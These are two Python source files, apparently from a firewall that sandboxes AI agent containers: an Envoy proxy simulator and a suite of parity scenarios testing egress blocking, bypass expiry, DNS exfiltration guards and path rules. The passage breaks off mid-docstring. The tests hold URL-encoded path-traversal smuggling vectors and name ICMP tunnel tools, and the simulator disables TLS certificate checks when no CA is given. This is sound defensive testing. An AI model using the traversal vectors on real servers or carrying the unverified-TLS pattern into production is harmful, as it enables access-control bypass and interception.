        chunk = rfile.read(clen - len(body))
        if not chunk:
            break
        body += chunk
    return HttpRequest(method, target, version, headers, body, head)


def _send_simple(wfile, status: int, body: bytes, *,
                 extra_headers: dict[str, str] | None = None) -> None:
    reason = {200: "OK", 307: "Temporary Redirect", 403: "Forbidden",
              404: "Not Found", 502: "Bad Gateway"}.get(status, "OK")
    head = f"HTTP/1.1 {status} {reason}\r\n"
    for k, v in (extra_headers or {}).items():
        head += f"{k}: {v}\r\n"
    head += f"content-length: {len(body)}\r\nconnection: close\r\n\r\n"
    wfile.write(head.encode("latin-1") + body)
    wfile.flush()


def _pump(a: socket.socket, b: socket.socket) -> None:
    """Bidirectional byte splice until either side closes."""
    def one(src, dst):
        try:
            while True:
                data = src.recv(65536)
                if not data:
                    break
                dst.sendall(data)
        except OSError:
            pass
        finally:
            try:
                dst.shutdown(socket.SHUT_WR)
            except OSError:
                pass

    t = threading.Thread(target=one, args=(b, a), daemon=True)
    t.start()
    one(a, b)
    t.join(5.0)


class EnvoySim:
    """Serve the bootstrap's listeners on real localhost sockets."""

    def __init__(self, config_yaml: str, resolve: Resolve, *,
                 upstream_ca: str | None = None):
        self.cfg = yaml.safe_load(config_yaml)
        self.resolve = resolve
        self.upstream_ca = upstream_ca
        self.clusters = {c["name"]: c for c in
                         self.cfg["static_resources"]["clusters"]}
        self.port_map: dict[int, int] = {}   # configured -> bound
        self.access_log: list[dict] = []
        self._log_lock = threading.Lock()
        self._servers: list[socket.socket] = []
        self._threads: list[threading.Thread] = []
        self._stop = threading.Event()

    # ------------------------------------------------------------ lifecycle

    def start(self) -> None:
        for listener in self.cfg["static_resources"]["listeners"]:
            cport = listener["address"]["socket_address"]["port_value"]
            srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            srv.bind(("127.0.0.1", 0))
            srv.listen(32)
            # finite accept timeout: close() alone does not wake a thread
            # blocked in accept(), and stop() would eat the full join
            srv.settimeout(0.2)
            self.port_map[cport] = srv.getsockname()[1]
            self._servers.append(srv)
            t = threading.Thread(target=self._accept_loop,
                                 args=(srv, listener),
                                 name=f"envoysim-{cport}", daemon=True)
            t.start()
            self._threads.append(t)

    def stop(self) -> None:
        self._stop.set()
        for srv in self._servers:
            try:
                srv.close()
            except OSError:
                pass
        for t in self._threads:
            t.join(2.0)
        self._servers.clear()
        self._threads.clear()

    def _log(self, **rec) -> None:
        with self._log_lock:
            self.access_log.append(rec)

    # ------------------------------------------------------------ dispatch

    def _accept_loop(self, srv: socket.socket, listener: dict) -> None:
        has_tls_inspector = any(
            f.get("name") == "envoy.filters.listener.tls_inspector"
            for f in listener.get("listener_filters", []))
        while not self._stop.is_set():
            try:
                conn, _ = srv.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            conn.settimeout(10.0)
            t = threading.Thread(
                target=self._handle, args=(conn, listener, has_tls_inspector),
                daemon=True)
            t.start()

    def _handle(self, conn: socket.socket, listener: dict,
                tls_inspector: bool) -> None:
        try:
            if tls_inspector:
                self._handle_tls_listener(conn, listener)
            else:
                self._handle_plain_listener(conn, listener)
        except (OSError, ssl.SSLError, TlsParseError):
            pass
        finally:
            try:
                conn.close()
            except OSError:
                pass

    # ------------------------------------------------------- TLS listener

    def _peek_record(self, conn: socket.socket) -> bytes:
        """Peek the first full TLS record without consuming it."""
        want = 5
        data = b""
        for _ in range(64):
            data = conn.recv(want, socket.MSG_PEEK)
            if len(data) >= 5:
                rec_len = struct.unpack(">H", data[3:5])[0]
                want = 5 + rec_len
                if len(data) >= want:
                    return data[:want]
            elif not data:
                return b""
        return data

    def _handle_tls_listener(self, conn: socket.socket, listener: dict) -> None:
        record = self._peek_record(conn)
        if not record:
            return
        sni = parse_client_hello_sni(record)
        # Envoy picks the most-specific filter_chain_match: an exact
        # server_name beats a wildcard, regardless of declaration order
        # (exercised by e2e WildcardAndExactCoexist).
        chain = None
        chains = listener.get("filter_chains", [])
        for exact_pass in (True, False):
            for c in chains:
                names = c.get("filter_chain_match", {}).get("server_names", [])
                wanted = [n for n in names
                          if n.startswith("*.") != exact_pass]
                if _sni_matches(wanted, sni):
                    chain = c
                    break
            if chain is not None:
                break
        if chain is None:
            # default deny: no chain for this SNI -> refuse
            self._log(listener="tls", sni=sni, action="refused")
            conn.shutdown(socket.SHUT_RDWR)
            return
        if "transport_socket" in chain:
            self._serve_mitm(conn, chain, sni)
        else:
            self._serve_passthrough(conn, chain, sni)

    def _serve_passthrough(self, conn: socket.socket, chain: dict,
                           sni: str | None) -> None:
        filters = {f["name"]: f for f in chain["filters"]}
        dfp = filters.get("envoy.filters.network.sni_dynamic_forward_proxy")
        tcp_proxy = filters["envoy.filters.network.tcp_proxy"]
        if dfp is not None:
            port = dfp["typed_config"]["port_value"]
            upstream = self.resolve(sni or "", port)
        else:
            upstream = self._cluster_endpoint(
                tcp_proxy["typed_config"]["cluster"], authority=sni)
        if upstream is None:
            self._log(listener="tls", sni=sni, action="no_upstream")
            conn.shutdown(socket.SHUT_RDWR)
            return
        self._log(listener="tls", sni=sni, action="passthrough",
                  upstream=f"{upstream[0]}:{upstream[1]}")
        with socket.create_connection(upstream, timeout=10.0) as up:
            _pump(conn, up)

    def _serve_mitm(self, conn: socket.socket, chain: dict,
                    sni: str | None) -> None:
        certs = (chain["transport_socket"]["typed_config"]
                 ["common_tls_context"]["tls_certificates"][0])
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(certs["certificate_chain"]["filename"],
                            certs["private_key"]["filename"])
        with ctx.wrap_socket(conn, server_side=True) as tls:
            hcm = next(
                f for f in chain["filters"]
                if f["name"] == "envoy.filters.network.http_connection_manager"
            )["typed_config"]
            self._serve_hcm(tls, hcm, tls_upstream=True, sni=sni)

    # ------------------------------------------------------ plain listener

    def _handle_plain_listener(self, conn: socket.socket, listener: dict) -> None:
        chain = listener["filter_chains"][0]
        names = {f["name"]: f for f in chain["filters"]}
        hcm = names.get("envoy.filters.network.http_connection_manager")
        if hcm is not None:
            self._serve_hcm(conn, hcm["typed_config"], tls_upstream=False)
            return
        tcp_proxy = names["envoy.filters.network.tcp_proxy"]
        upstream = self._cluster_endpoint(
            tcp_proxy["typed_config"]["cluster"], authority=None)
        if upstream is None:
            self._log(listener="tcp", action="no_upstream")
            conn.shutdown(socket.SHUT_RDWR)
            return
        self._log(listener="tcp", action="splice",
                  upstream=f"{upstream[0]}:{upstream[1]}")
        with socket.create_connection(upstream, timeout=10.0) as up:
            _pump(conn, up)

    # ------------------------------------------------------------- HCM

    def _serve_hcm(self, sock, hcm: dict, *, tls_upstream: bool,
                   sni: str | None = None) -> None:
        rfile = sock.makefile("rb")
        wfile = sock.makefile("wb")
        req = read_http_request(rfile)
        if req is None:
            return
        path, had_escaped = normalize_path(req.target)
        if had_escaped:
            # UNESCAPE_AND_REDIRECT: bounce the client to the clean path
            self._log(hcm=hcm.get("stat_prefix"), authority=req.host,
                      path=req.target, action="redirect_normalized")
            _send_simple(wfile, 307, b"", extra_headers={"location": path})
            return
        vhost = self._match_vhost(hcm, req.host)
        if vhost is None:
            self._log(hcm=hcm.get("stat_prefix"), authority=req.host,
                      path=path, action="no_vhost", code=404)
            _send_simple(wfile, 404, b"")
            return
        route = self._match_route(vhost, path, req.method)
        if route is None:
            self._log(hcm=hcm.get("stat_prefix"), authority=req.host,
                      path=path, action="no_route", code=404)
            _send_simple(wfile, 404, b"")
            return
        action = (route.get("metadata", {}).get("filter_metadata", {})
                  .get("fw", {}).get("action", ""))
        if "direct_response" in route:
            dr = route["direct_response"]
            body = dr.get("body", {}).get("inline_string", "").encode()
            self._log(hcm=hcm.get("stat_prefix"), authority=req.host,
                      path=path, method=req.method, action=action or "denied",
                      code=dr["status"])
            _send_simple(wfile, dr["status"], body)
            return
        cluster = route["route"]["cluster"]
        upstream = self._cluster_endpoint(cluster, authority=req.host or sni)
        if upstream is None:
            self._log(hcm=hcm.get("stat_prefix"), authority=req.host,
                      path=path, action="no_upstream", code=502)
            _send_simple(wfile, 502, b"upstream resolution failed\n")
            return
        self._log(hcm=hcm.get("stat_prefix"), authority=req.host, path=path,
                  method=req.method, action=action or "allowed",
                  upstream=f"{upstream[0]}:{upstream[1]}")
        self._forward_request(wfile, req, path, upstream,
                              tls=self._cluster_tls(cluster),
                              server_hostname=(req.host or sni or "").split(":")[0])

    def _match_vhost(self, hcm: dict, host: str) -> dict | None:
        # exact domains win over wildcards (Envoy vhost domain search
        # order: exact, then suffix wildcards), declaration order second
        for exact_pass in (True, False):
            for vh in hcm["route_config"]["virtual_hosts"]:
                domains = [d for d in vh["domains"]
                           if d.startswith("*") != exact_pass]
                if any(_host_matches(d, host) for d in domains):
                    return vh
        return None

    @staticmethod
    def _match_route(vhost: dict, path: str, method: str) -> dict | None:
        bare = path.split("?")[0]
        for route in vhost["routes"]:
            match = route["match"]
            prefix = match.get("prefix")
            if prefix is None or not bare.startswith(prefix):
                continue
            hdrs = match.get("headers", [])
            ok = True
            for h in hdrs:
                if h.get("name") == ":method":
                    sm = h.get("string_match", {})
                    if "exact" in sm and method != sm["exact"]:
                        ok = False
                    elif "safe_regex" in sm:
                        import re
                        if re.fullmatch(sm["safe_regex"]["regex"], method) is None:
                            ok = False
            if ok:
                return route
        return None

    # --------------------------------------------------------- upstreams

    def _cluster_endpoint(self, name: str, *,
                          authority: str | None) -> tuple[str, int] | None:
        c = self.clusters.get(name)
        if c is None:
            return None
        if "cluster_type" in c:  # dynamic_forward_proxy: host from authority
            if not authority:
                return None
            host, _, port_s = authority.partition(":")
            return self.resolve(host, int(port_s) if port_s else
                                (443 if self._cluster_tls(name) else 80))
        ep = (c["load_assignment"]["endpoints"][0]["lb_endpoints"][0]
              ["endpoint"]["address"]["socket_address"])
        return self.resolve(ep["address"], ep["port_value"])

    def _cluster_tls(self, name: str) -> bool:
        return "transport_socket" in self.clusters.get(name, {})

    def _forward_request(self, wfile, req: HttpRequest, path: str,
                         upstream: tuple[str, int], *, tls: bool,
                         server_hostname: str) -> None:
        try:
            raw = socket.create_connection(upstream, timeout=10.0)
        except OSError:
            _send_simple(wfile, 502, b"upstream connect failed\n")
            return
        try:
            up = raw
            if tls:
                ctx = ssl.create_default_context(cafile=self.upstream_ca)
                if self.upstream_ca is None:
                    ctx.check_hostname = False
                    ctx.verify_mode = ssl.CERT_NONE
                up = ctx.wrap_socket(raw, server_hostname=server_hostname)
            head = f"{req.method} {path} HTTP/1.1\r\n"
            head += f"host: {req.host}\r\nconnection: close\r\n"
            for k, v in req.headers.items():
                if k in ("host", "connection", "content-length"):
                    continue
                head += f"{k}: {v}\r\n"
            if req.body:
                head += f"content-length: {len(req.body)}\r\n"
            up.sendall(head.encode("latin-1") + b"\r\n" + req.body)
            while True:
                data = up.recv(65536)
                if not data:
                    break
                wfile.write(data)
            wfile.flush()
        except (OSError, ssl.SSLError):
            pass
        finally:
            try:
                up.close()
            except OSError:
                pass
