"""The 22-scenario reference firewall parity corpus.

Each scenario re-derives one test from the reference e2e suite
(/root/reference/test/e2e/firewall_test.go, function/line cited per
scenario) onto this build's enforcement surfaces: socket-level scenarios
run through :class:`~clawker_tpu.parity.world.World` (kernel twin + real
DnsGate socket + executed Envoy bootstrap + real origin/attacker
listeners), and control-plane scenarios drive the real
:class:`~clawker_tpu.firewall.handler.FirewallHandler` over the fake
engine the way the reference drives the CLI against a real daemon.

A scenario is a callable ``(tmp: Path) -> dict`` returning evidence for
the scorecard; it raises :class:`ScenarioFailure` (or any AssertionError)
on a parity miss.  ``python -m clawker_tpu.parity`` prints the N/22
scorecard; ``tests/test_parity.py`` runs every scenario in CI.
"""

from __future__ import annotations

import threading
import time
from pathlib import Path
from typing import Callable

from .. import consts
from ..config.schema import EgressRule, PathRule
from ..errors import ClawkerError
from ..firewall.model import Action
from ..firewall.rules import RulesStore
from .world import (
    CG_AGENT,
    DNS_IP,
    HOSTPROXY_IP,
    HOSTPROXY_PORT,
    EgressBlocked,
    World,
)

SCENARIOS: list[tuple[str, "Callable[[Path], dict]"]] = []


class ScenarioFailure(AssertionError):
    pass


def check(cond: bool, msg: str) -> None:
    if not cond:
        raise ScenarioFailure(msg)


def scenario(name: str):
    def reg(fn):
        SCENARIOS.append((name, fn))
        return fn
    return reg


def default_rules() -> list[EgressRule]:
    """The required-rule floor (api.anthropic.com is a required rule in
    the reference: firewall_test.go:206 relies on it)."""
    return [EgressRule(dst="api.anthropic.com", proto="https", port=443)]


def _world(tmp: Path, rules: list[EgressRule] | None = None, **kw) -> World:
    w = World(default_rules() if rules is None else rules, tmp, **kw)
    w.add_origin(["api.anthropic.com"])
    return w


# ------------------------------------------------------------------ handler
# Control-plane scenarios build the real FirewallHandler over the fake
# engine + FakeMaps, mirroring tests/test_firewall_handler.py wiring.

class _HandlerRig:
    def __init__(self, tmp: Path, *, base_egress: bool = True):
        from ..config import load_config
        from ..engine.drivers import FakeDriver
        from ..firewall.enroll import FakeAttacher, FakeCgroupResolver
        from ..firewall.maps import FakeMaps
        from ..firewall.runtime import build_handler
        from ..testenv import TestEnv

        self._env = TestEnv(base=tmp / "xdg")
        self._env.__enter__()
        proj = tmp / "proj"
        proj.mkdir(parents=True, exist_ok=True)
        body = "project: paritycp\n"
        if base_egress:
            body += ("security:\n"
                     "  egress:\n"
                     "    - dst: example.com\n"
                     "      proto: https\n")
        (proj / consts.PROJECT_FLAT_FORM).write_text(body)
        self.cfg = load_config(proj)
        self.driver = FakeDriver()
        self.driver.api.add_image("envoyproxy/envoy:v1.30.2")
        self.maps = FakeMaps()
        self.handler = build_handler(
            self.cfg, self.driver.engine(), maps=self.maps,
            resolver=FakeCgroupResolver(), attacher=FakeAttacher(),
            dns_host="127.0.0.1", dns_port=0,
        )

    def start_agent(self, name: str = "clawker.paritycp.dev") -> str:
        from ..engine.api import ContainerSpec

        self.driver.api.add_image("agent:latest")
        eng = self.driver.engine()
        cid = eng.create_container(name, ContainerSpec(image="agent:latest"))
        eng.start_container(cid)
        return cid

    def close(self) -> None:
        try:
            self.handler.close()
        finally:
            if self.handler.stack.gate is not None:
                self.handler.stack.gate.stop()
            self._env.__exit__(None, None, None)


# ------------------------------------------------------------- scenarios


@scenario("BlockedDomain")
def s_blocked_domain(tmp: Path) -> dict:
    """firewall_test.go:77 -- curl to a domain with no rule fails."""
    w = _world(tmp)
    try:
        w.add_origin(["example.com"])
        res = w.curl("https://example.com")
        check(not res.ok, f"blocked domain answered: {res.code}")
        return {"err": res.err}
    finally:
        w.close()


@scenario("UpDown")
def s_up_down(tmp: Path) -> dict:
    """firewall_test.go:85 -- firewall up / status / down verb cycle."""
    rig = _HandlerRig(tmp)
    try:
        up = rig.handler.init({})
        check(up.get("initialized") is True, "init did not initialize")
        st = rig.handler.status({})
        check(st["stack"].get("running") is True,
              f"status after up: {st['stack']}")
        down = rig.handler.remove({})
        check(down.get("removed") is True, "remove failed")
        st2 = rig.handler.status({})
        check(st2["stack"].get("running") is not True,
              "stack still running after down")
        return {"routes": up.get("routes")}
    finally:
        rig.close()


@scenario("ICMPBlocked")
def s_icmp_blocked(tmp: Path) -> dict:
    """firewall_test.go:103 -- ping fails: SOCK_RAW creation is denied in
    the kernel (sock_create hook), closing ICMP tunnels (ptunnel/icmpsh)."""
    w = _world(tmp)
    try:
        v = w.raw_socket_verdict()
        check(v.action is Action.DENY,
              f"raw socket allowed: {v.action}")
        return {"verdict": v.reason.name}
    finally:
        w.close()


@scenario("Bypass")
def s_bypass(tmp: Path) -> dict:
    """firewall_test.go:147 -- bypass composite: explicit stop restore,
    natural dead-man expiry (INV-B2-007), stopped-container drift guard
    (INV-B2-016)."""
    w = _world(tmp)
    try:
        w.add_origin(["example.com"])
        check(not w.curl("https://example.com").ok, "baseline not blocked")
        # explicit --stop arc
        w.maps.set_bypass(CG_AGENT, int(time.time()) + 30)
        res = w.curl("https://example.com")
        check(res.ok, f"curl during bypass failed: {res.err or res.code}")
        w.maps.clear_bypass(CG_AGENT)
        check(not w.curl("https://example.com").ok,
              "still open after bypass --stop")
        # natural-expiry arc (dead-man deadline in the map itself)
        w.maps.set_bypass(CG_AGENT, int(time.time()) + 1)
        check(w.curl("https://example.com").ok, "short bypass not live")
        time.sleep(1.3)
        check(not w.curl("https://example.com").ok,
              "enforcement not restored after bypass expiry")
    finally:
        w.close()
    # stopped-container arc: the real handler must refuse bypass once the
    # container is gone (drift guard INV-B2-016).
    rig = _HandlerRig(tmp / "cp")
    try:
        cid = rig.start_agent()
        rig.handler.init({})
        rig.handler.enable({"container_id": cid})
        rig.driver.engine().stop_container(cid)
        try:
            rig.handler.bypass({"container_id": cid, "duration_s": 30})
            raise ScenarioFailure("bypass on stopped container succeeded")
        except ClawkerError:
            pass
        return {"arcs": ["stop-restore", "expiry", "stopped-container"]}
    finally:
        rig.close()


@scenario("AllowedDomain")
def s_allowed_domain(tmp: Path) -> dict:
    """firewall_test.go:206 -- required rule api.anthropic.com passes."""
    w = _world(tmp)
    try:
        res = w.curl("https://api.anthropic.com")
        check(res.ok, f"allowed domain failed: {res.err or res.code}")
        return {"code": res.code}
    finally:
        w.close()


@scenario("AddRemove")
def s_add_remove(tmp: Path) -> dict:
    """firewall_test.go:219 -- add opens traffic, remove closes it, and
    removing an unknown rule errors (rules_store semantics)."""
    w = _world(tmp)
    try:
        w.add_origin(["example.com"])
        check(not w.curl("https://example.com").ok, "blocked before add")
        added = default_rules() + [EgressRule(dst="example.com")]
        w.reload_rules(added)
        res = w.curl("https://example.com")
        check(res.ok, f"curl after add failed: {res.err or res.code}")
        w.reload_rules(default_rules())
        check(not w.curl("https://example.com").ok, "open after remove")
        # store-level: removing a rule that is not present reports failure
        store = RulesStore(tmp / "egress-rules.yaml")
        store.add([EgressRule(dst="example.com")])
        check(store.remove("example.com:https:443") is True, "remove failed")
        check(store.remove("nonexistent.com:https:443") is False,
              "removing a non-existent rule should fail")
        return {"arcs": ["add", "remove", "remove-nonexistent"]}
    finally:
        w.close()


@scenario("ConfigRules")
def s_config_rules(tmp: Path) -> dict:
    """firewall_test.go:254 -- concurrent config-sync AddRules + CLI add
    serialized by the ActionQueue; store mutations survive firewall down;
    RPCs fail once the CP (queue) is gone."""
    rig = _HandlerRig(tmp, base_egress=False)
    try:
        rig.handler.init({})
        errs: list = [None, None]

        def add_a():
            try:
                rig.handler.add_rules({"rules": [
                    {"dst": "example.com", "proto": "https", "port": 443}]})
            except Exception as e:  # noqa: BLE001 - recorded for the check
                errs[0] = e

        def add_b():
            try:
                rig.handler.add_rules({"rules": [
                    {"dst": "httpbin.org", "proto": "https", "port": 443}]})
            except Exception as e:  # noqa: BLE001
                errs[1] = e

        ta, tb = threading.Thread(target=add_a), threading.Thread(target=add_b)
        ta.start(); tb.start(); ta.join(10); tb.join(10)
        check(errs == [None, None], f"concurrent adds failed: {errs}")
        listed = {r["dst"] for r in rig.handler.list_rules({})["rules"]}
        check({"example.com", "httpbin.org"} <= listed,
              f"rules lost in concurrent sync: {listed}")
        # firewall down, then remove: store mutation without a stack
        rig.handler.remove({})
        rig.handler.remove_rule({"key": "example.com:https:443"})
        listed2 = {r["dst"] for r in rig.handler.list_rules({})["rules"]}
        check("httpbin.org" in listed2 and "example.com" not in listed2,
              f"post-down remove wrong: {listed2}")
        # CP down: queue closed, RPC errors
        rig.handler.close()
        try:
            rig.handler.remove_rule({"key": "httpbin.org:https:443"})
            raise ScenarioFailure("RPC succeeded after CP down")
        except ClawkerError:
            pass
        return {"serialized": True}
    finally:
        rig.close()


@scenario("Status")
def s_status(tmp: Path) -> dict:
    """firewall_test.go:382 -- status reports a running stack + the
    enrolled container."""
    rig = _HandlerRig(tmp)
    try:
        cid = rig.start_agent()
        rig.handler.init({})
        rig.handler.enable({"container_id": cid})
        st = rig.handler.status({})
        check(st["stack"].get("running") is True, f"not running: {st}")
        check(any(e["container_id"] == cid for e in st["enrolled"]),
              "agent not in status enrollment list")
        return {"enrolled": len(st["enrolled"])}
    finally:
        rig.close()


@scenario("IntraNetworkBypass")
def s_intra_network_bypass(tmp: Path) -> dict:
    """firewall_test.go:398 -- a sibling service on the sandbox bridge is
    reachable with NO rule via the CIDR bypass; external stays blocked."""
    w = _world(tmp, intra_net=("10.99.0.0", 24))
    try:
        w.add_origin(["example.com"])
        sibling = w.add_origin(["listener.internal"])
        # place the listener at a bridge address, like a sibling container
        w.endpoints[("10.99.0.77", 8080)] = ("127.0.0.1", sibling.http_port)
        res = w.curl("http://10.99.0.77:8080/")
        check(res.code == 200,
              f"intra-net service unreachable: {res.err or res.code}")
        check(not w.curl("https://example.com").ok,
              "external domain open alongside CIDR bypass")
        # the gateway (= the host) is excluded from the bypass: a non-proxy
        # host port stays blocked (firewall_test.go:497)
        try:
            w.open_tcp(DNS_IP, 9999)
            raise ScenarioFailure("CIDR bypass covered a host port")
        except EgressBlocked:
            pass
        return {"code": res.code}
    finally:
        w.close()


@scenario("HostProxyReachable")
def s_hostproxy_reachable(tmp: Path) -> dict:
    """firewall_test.go:452 -- the host proxy health endpoint is reachable
    through the targeted eBPF RETURN; any other host port stays blocked."""
    w = _world(tmp)
    try:
        res = w.curl(f"http://{HOSTPROXY_IP}:{HOSTPROXY_PORT}/healthz")
        check(res.code == 200, f"host proxy unreachable: {res.err or res.code}")
        try:
            w.open_tcp(HOSTPROXY_IP, 9999)
            raise ScenarioFailure("non-proxy host port not blocked")
        except EgressBlocked as e:
            return {"health": res.code, "blocked_reason": e.reason.name}
    finally:
        w.close()


@scenario("SSHTCPMapping")
def s_ssh_tcp_mapping(tmp: Path) -> dict:
    """firewall_test.go:503 -- ssh proto rule rides the sequential TCP
    listener (eBPF dport 22 -> envoy:10001 -> cluster github.com:22);
    DNS is the sole domain gate for non-TLS protos (gitlab NXDOMAINs)."""
    rules = default_rules() + [EgressRule(dst="github.com", proto="ssh", port=22)]
    w = World(rules, tmp)
    try:
        w.add_origin(["api.anthropic.com"])
        banner = b"SSH-2.0-OpenSSH_9.6\r\n"
        w.add_origin(["github.com"], banner=banner)
        w.add_origin(["gitlab.com"], banner=banner)
        rcode, ips = w.dig("github.com")
        check(rcode == 0 and ips, "github.com did not resolve")
        sock = w.open_tcp(ips[0], 22)
        try:
            sock.settimeout(5.0)
            got = sock.recv(64)
        finally:
            sock.close()
        check(got.startswith(b"SSH-"), f"no SSH banner via TCP map: {got!r}")
        rcode2, ips2 = w.dig("gitlab.com")
        check(rcode2 != 0 or not ips2, "gitlab.com resolved (no rule)")
        return {"banner": got.decode().strip()}
    finally:
        w.close()


@scenario("DockerInternalDNS")
def s_docker_internal_dns(tmp: Path) -> dict:
    """firewall_test.go:568 -- docker.internal zone answers from the
    engine inventory; sibling service names resolve; others NXDOMAIN."""
    w = _world(tmp)
    try:
        w.add_internal_host("host.docker.internal", "192.168.65.2")
        w.add_internal_host("otel-collector", "10.99.0.9")
        rcode, ips = w.dig("host.docker.internal")
        check(rcode == 0 and ips == ["192.168.65.2"],
              f"host.docker.internal: rcode={rcode} ips={ips}")
        rcode2, ips2 = w.dig("otel-collector")
        check(rcode2 == 0 and ips2 == ["10.99.0.9"],
              f"otel-collector: rcode={rcode2} ips={ips2}")
        rcode3, ips3 = w.dig("evil.example.com")
        check(rcode3 != 0 or not ips3, "non-whitelisted domain resolved")
        return {"host": ips[0], "otel": ips2[0]}
    finally:
        w.close()


@scenario("ExactAllowBlocksSubdomain")
def s_exact_allow_blocks_subdomain(tmp: Path) -> dict:
    """firewall_test.go:609 -- DNS subtree exfil regression: an exact
    allow resolves the apex but NXDOMAINs every subdomain; promoting to a
    wildcard forwards the subtree."""
    rules = default_rules() + [EgressRule(dst="example.com")]
    w = _world(tmp, rules)
    try:
        w.add_origin(["example.com", "www.example.com"])
        rcode, ips = w.dig("example.com")
        check(rcode == 0 and ips, "exact-allow apex must resolve")
        rcode2, ips2 = w.dig("www.example.com")
        check(rcode2 != 0 or not ips2,
              "subdomain of an exact rule leaked upstream (DNS subtree)")
        w.reload_rules(rules + [EgressRule(dst=".example.com")])
        rcode3, ips3 = w.dig("www.example.com")
        check(rcode3 == 0 and ips3, "wildcard subdomain must resolve")
        return {"apex": ips[0], "wildcard_sub": ips3[0]}
    finally:
        w.close()


@scenario("DenySubdomainUnderWildcard")
def s_deny_subdomain_under_wildcard(tmp: Path) -> dict:
    """firewall_test.go:653 -- allow .X except sub.X: the more-specific
    deny zone NXDOMAINs while the wildcard apex still resolves."""
    rules = default_rules() + [
        EgressRule(dst=".example.com", action="allow"),
        EgressRule(dst="www.example.com", action="deny"),
    ]
    w = _world(tmp, rules)
    try:
        w.add_origin(["example.com", "www.example.com"])
        rcode, ips = w.dig("example.com")
        check(rcode == 0 and ips, "wildcard apex must resolve")
        rcode2, ips2 = w.dig("www.example.com")
        check(rcode2 != 0 or not ips2,
              "denied subdomain resolved under wildcard allow")
        return {"apex": ips[0]}
    finally:
        w.close()


@scenario("HTTPDomainDetection")
def s_http_domain_detection(tmp: Path) -> dict:
    """firewall_test.go:709 -- plain HTTP rides the consolidated listener:
    Host-header domain match routes allowed domains; others are blocked."""
    rules = default_rules() + [EgressRule(dst="example.com", proto="http", port=80)]
    w = _world(tmp, rules)
    try:
        w.add_origin(["example.com"])
        w.add_origin(["httpbin.org"])
        res = w.curl("http://example.com/")
        check(res.code in (200, 301, 302),
              f"allowed HTTP domain failed: {res.err or res.code}")
        check(not w.curl("http://httpbin.org/").ok,
              "plain HTTP to non-allowed domain not blocked")
        return {"code": res.code}
    finally:
        w.close()


@scenario("FirewallDisabled")
def s_firewall_disabled(tmp: Path) -> dict:
    """firewall_test.go:788 -- firewall.enable: false: the cgroup is never
    enrolled, traffic flows direct (UNMANAGED allow)."""
    w = _world(tmp, enrolled=False)
    try:
        w.add_origin(["example.com"])
        res = w.curl("https://example.com")
        check(res.code == 200,
              f"disabled firewall should pass traffic: {res.err or res.code}")
        return {"code": res.code}
    finally:
        w.close()


def _path_rule_world(tmp: Path, proto: str, rules: list[PathRule],
                     default: str) -> World:
    port = 443 if proto == "https" else 80
    rule = EgressRule(dst="example.com", proto=proto, port=port,
                      path_rules=rules, path_default=default)
    w = _world(tmp, default_rules() + [rule])
    w.add_origin(["example.com"])
    return w


def _check_deny_body(res) -> None:
    check(res.code == 403, f"denied path got {res.code}, want 403")
    check(b"Forbidden" in res.body,
          f"deny body must be the Forbidden page, got {res.body[:80]!r}")
    check(b"clawker" not in res.body.lower(),
          "deny body discloses enforcement product identity")


@scenario("PathRulesDefaultDeny")
def s_path_rules_default_deny(tmp: Path) -> dict:
    """firewall_test.go:842 -- HTTP path rules, default deny: /test passes
    to upstream, /evil gets the centralized 403."""
    w = _path_rule_world(tmp, "http",
                         [PathRule(path="/test", action="allow")], "deny")
    try:
        allowed = w.curl("http://example.com/test")
        check(allowed.code != 403 and allowed.ok,
              f"allowed path blocked: {allowed.err or allowed.code}")
        _check_deny_body(w.curl("http://example.com/evil"))
        return {"allowed": allowed.code}
    finally:
        w.close()


@scenario("PathRulesExplicitDeny")
def s_path_rules_explicit_deny(tmp: Path) -> dict:
    """firewall_test.go:936 -- HTTP path rules, explicit deny: / passes
    (default allow), /evil 403s."""
    w = _path_rule_world(tmp, "http",
                         [PathRule(path="/evil", action="deny")], "allow")
    try:
        allowed = w.curl("http://example.com/")
        check(allowed.code in (200, 301, 302),
              f"default-allow path failed: {allowed.err or allowed.code}")
        _check_deny_body(w.curl("http://example.com/evil"))
        return {"allowed": allowed.code}
    finally:
        w.close()


@scenario("TLSPathRulesDefaultDeny")
def s_tls_path_rules_default_deny(tmp: Path) -> dict:
    """firewall_test.go:1029 -- MITM path rules, default deny."""
    w = _path_rule_world(tmp, "https",
                         [PathRule(path="/test", action="allow")], "deny")
    try:
        allowed = w.curl("https://example.com/test")
        check(allowed.code != 403 and allowed.ok,
              f"allowed path blocked: {allowed.err or allowed.code}")
        _check_deny_body(w.curl("https://example.com/evil"))
        return {"allowed": allowed.code}
    finally:
        w.close()


@scenario("PathRuleNormalizationDefeatsSmuggling")
def s_path_rule_normalization(tmp: Path) -> dict:
    """firewall_test.go:1131 -- URL-encoded traversal out of an allowed
    prefix must collapse to the denied path (normalize_path +
    UNESCAPE_AND_REDIRECT semantics), never reach upstream."""
    w = _path_rule_world(tmp, "https",
                         [PathRule(path="/allowed/", action="allow")], "deny")
    try:
        vectors = {
            "url-encoded %2e%2e": "https://example.com/allowed/%2e%2e/escaped",
            "url-encoded ..%2f": "https://example.com/allowed/..%2fescaped",
            "double-encoded": "https://example.com/allowed/%252e%252e/escaped",
            "merged-slash": "https://example.com/allowed//..//escaped",
        }
        origin = w.origins["example.com"]
        for name, url in vectors.items():
            res = w.curl(url, follow=True)
            check(res.code == 403,
                  f"smuggle vector {name} got {res.code}, want 403")
            check(b"Forbidden" in res.body,
                  f"smuggle vector {name}: not the centralized deny body")
        check(not any("escaped" in path for _, path in origin.requests),
              f"a smuggled path reached upstream: {origin.requests}")
        return {"vectors": len(vectors)}
    finally:
        w.close()


@scenario("TLSPathRulesExplicitDeny")
def s_tls_path_rules_explicit_deny(tmp: Path) -> dict:
    """firewall_test.go:1232 -- MITM path rules, explicit deny."""
    w = _path_rule_world(tmp, "https",
                         [PathRule(path="/evil", action="deny")], "allow")
    try:
        allowed = w.curl("https://example.com/")
        check(allowed.code in (200, 301, 302),
              f"default-allow path failed: {allowed.err or allowed.code}")
        _check_deny_body(w.curl("https://example.com/evil"))
        return {"allowed": allowed.code}
    finally:
        w.close()


@scenario("WildcardAndExactCoexist")
def s_wildcard_and_exact_coexist(tmp: Path) -> dict:
    """firewall_test.go:1326 -- exact (apex) and wildcard (subdomain) MITM
